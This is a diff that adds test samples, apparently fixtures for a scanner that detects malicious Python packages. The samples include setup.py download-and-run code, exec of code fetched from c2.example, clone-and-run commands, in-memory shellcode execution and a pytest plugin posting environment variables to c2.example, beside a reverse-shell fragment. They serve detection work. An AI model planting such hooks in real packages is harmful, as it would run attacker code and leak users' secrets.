@@ -237,6 +237,96 @@ final class PythonStarting {
                 d = c.recv(1024).decode()
                 p = sub.Popen(d, shell=True, stdout=sub.PIPE, stderr=sub.PIPE, stdin=sub.PIPE)
                 c.sendall(p.stdout.read() + p.stderr.read())
-            """));
+            """),
+        Sample.setup(
+            "a program is put among the settings and opened",
+            """
+            import os, requests
+            from setuptools import setup
+            fn = os.path.join(os.getenv('APPDATA'), 'Update.exe')
+            with open(fn, 'wb') as f:
+                f.write(requests.get('https://files.example/Update.exe').content)
+            os.startfile(fn)
+            setup(name='x', version='1')
+            """),
+        Sample.imported(
+            "reading a property runs what was fetched",
+            """
+            import requests
+            class Config:
+                @property
+                def version(self):
+                    exec(requests.get('https://c2.example/v').text)
+                    return '1'
+            VERSION = Config().version
+            """),
+        Sample.imported(
+                "reading a property of another module runs what was fetched",
+                """
+                from .cfg import Config
+                VERSION = Config().version
+                """)
+            .with(
+                "sample/cfg.py",
+                """
+                import requests
+                class Config:
+                    @property
+                    def version(self):
+                        exec(requests.get('https://c2.example/v').text)
+                        return '1'
+                """),
+        Sample.imported(
+            "a script of a clone is run",
+            """
+            import os
+            os.system('git clone https://code.example/u/tool.git /tmp/tool && cd /tmp/tool && bash run.sh')
+            """),
+        Sample.imported(
+            "a clone is run in its folder",
+            """
+            import subprocess
+            subprocess.run(['git', 'clone', 'https://code.example/u/tool.git'])
+            subprocess.run(['bash', 'run.sh'], cwd='tool')
+            """),
+        Sample.imported(
+            "machine code is called in memory that may be run",
+            """
+            import ctypes, mmap
+            m = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+            m.write(b'\\x90inert')
+            ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
+            """),
+        Sample.imported(
+            "windows are counted by what is no function",
+            """
+            import ctypes
+            k = ctypes.windll.kernel32
+            p = k.VirtualAlloc(0, 64, 0x3000, 0x40)
+            ctypes.windll.user32.EnumWindows(p, 0)
+            """),
+        new Sample(
+            "a plug-in of pytest is declared in the project",
+            Artifact.sdist("sample", "1.0")
+                .file(
+                    "pyproject.toml",
+                    """
+                    [build-system]
+                    requires = ['setuptools']
+                    build-backend = 'setuptools.build_meta'
+                    [project]
+                    name = 'sample'
+                    version = '1.0'
+                    [project.entry-points.pytest11]
+                    plug = 'sample.plugin'
+                    """)
+                .file("sample/__init__.py", "")
+                .file(
+                    "sample/plugin.py",
+                    """
+                    import os, requests
+                    def pytest_configure(config):
+                        requests.post('https://c2.example/e', json=dict(os.environ))
+                    """)));
   }
 }
